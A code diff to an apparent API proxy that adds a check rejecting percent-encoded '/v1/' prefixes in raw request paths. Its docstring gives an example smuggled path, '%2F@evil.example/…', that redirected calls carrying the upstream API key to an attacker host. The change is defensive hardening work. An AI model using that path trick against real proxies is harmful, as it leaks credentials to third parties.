@@ -1,4 +1,5 @@
-"""Reading a proxied request: its body and metadata header as JSON objects, and paths that would climb."""
+"""Reading a proxied request: its body and metadata header as JSON objects, and paths that would climb or whose
+/v1/ is written percent-encoded."""
 
 from __future__ import annotations
 
@@ -20,6 +21,17 @@ def request_object(body: bytes) -> dict[str, Any] | None:
     if first == b"{" or (first in _JSON_SPACE and body.lstrip(b" \t\r\n")[:1] == b"{"):
         return json_object(body)
     return None
+
+
+def v1_written_plainly(raw_path: bytes | None) -> bool:
+    """Whether the path as sent (`raw_path`; None or empty: there is no raw form, the decoded one is sent) starts
+    with `/v1/` written as such, not percent-encoded (`/v1%2F…`, `/%761/…`).
+
+    The router reads the decoded path, the upstream gets the raw one's rest after its first 3 bytes: with a /v1/ in
+    disguise that rest need not start with '/', and after an upstream URL without a path it became the URL's host
+    (`http://llm:4000` + `%2F@evil.example/…` sent the call, with the upstream's key, to evil.example).
+    """
+    return not raw_path or raw_path.startswith(b"/v1/")
 
 
 def climbs(path: str) -> bool:
